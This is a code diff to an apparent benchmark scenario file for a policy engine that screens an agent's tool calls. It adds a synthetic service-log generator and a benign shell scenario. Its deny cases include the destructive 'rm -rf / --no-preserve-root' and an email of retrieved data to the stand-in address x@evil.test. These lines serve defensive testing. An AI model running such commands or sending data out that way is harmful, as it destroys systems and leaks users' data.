@@ -56,12 +56,33 @@ function history(): SessionState {
   return s;
 }
 
+// A realistic 4 KiB service log: ISO timestamps, amounts, ids, durations, addresses (digits everywhere, no PII).
+function serviceLog(bytes: number): string {
+  const two = (n: number) => String(n % 60).padStart(2, '0');
+  const lines: string[] = [];
+  for (let i = 0, size = 0; size < bytes; i++) {
+    const ts = `2026-11-29T12:${two(7 + (i >> 3))}:${two(i * 7)}.${String((i * 137) % 1000).padStart(3, '0')}Z`;
+    const order = 18_234 + i * 17;
+    const line = [
+      `${ts} INFO  http GET /api/v1/orders/${order} status=200 duration_ms=${(3 + ((i * 13) % 90) / 10).toFixed(1)} request_id=req_${(0x7f3a9c21 + i * 4099).toString(16)}`,
+      `${ts} INFO  payment captured order=${order} amount=${(19 + ((i * 37) % 300)).toFixed(2)} currency=EUR attempt=1`,
+      `${ts} WARN  upstream retry host=10.0.${i % 16}.${(i * 11) % 250}:8443 attempt=2 backoff_ms=${250 * (1 + (i % 3))}`,
+      `${ts} DEBUG cache hit key=user:${48_213 + i}:profile ttl=3600 size=${512 + ((i * 97) % 4096)}`,
+    ][i % 4];
+    lines.push(line);
+    size += line.length + 1;
+  }
+  return lines.join('\n').slice(0, bytes);
+}
+
 const scenarios: { name: string; method: string; params: Json }[] = [
   { name: 'benign read_file (allow)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'read_file' }, arguments: { path: { value: '/workspace/notes.md', provenance: prov('u3', 'user_input') } } }) },
   { name: 'rm -rf / (deny baseline)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'shell' }, arguments: { command: { value: 'rm -rf / --no-preserve-root', provenance: prov('u3', 'user_input') } } }) },
+  { name: 'benign shell command (allow)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'shell' }, arguments: { command: { value: 'ls -la /workspace/src', provenance: prov('u3', 'user_input') } } }) },
   { name: 'email from retrieved data (deny FIDES+AARM+CaMeL)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'email.send' }, arguments: { to: { value: 'x@evil.test', provenance: prov('g1', 'agent_generated', ['u3', 'r3']) }, body: { value: 'hello', provenance: prov('g2', 'agent_generated', ['u3']) } } }) },
   { name: 'user message with PII (modify)', method: 'steps/userMessage', params: params({ content: [{ type: 'text', value: 'Contact jane.doe@example.com or +44 20 7946 0958, card 4111 1111 1111 1111. ' + 'Some ordinary text. '.repeat(20), provenance: prov('u9', 'user_input') }] }) },
   { name: 'tool result, 4 KiB output (allow)', method: 'steps/toolCallResult', params: params({ tool: { name: 'read_file' }, exit_status: 'success', outputs: [{ value: 'lorem ipsum dolor sit amet '.repeat(150), provenance: prov('o1', 'tool_output') }] }) },
+  { name: 'tool result, 4 KiB log with digits (allow)', method: 'steps/toolCallResult', params: params({ tool: { name: 'read_file' }, exit_status: 'success', outputs: [{ value: serviceLog(4096), provenance: prov('o2', 'tool_output') }] }) },
 ];
 
 function percentile(sorted: number[], p: number): number {
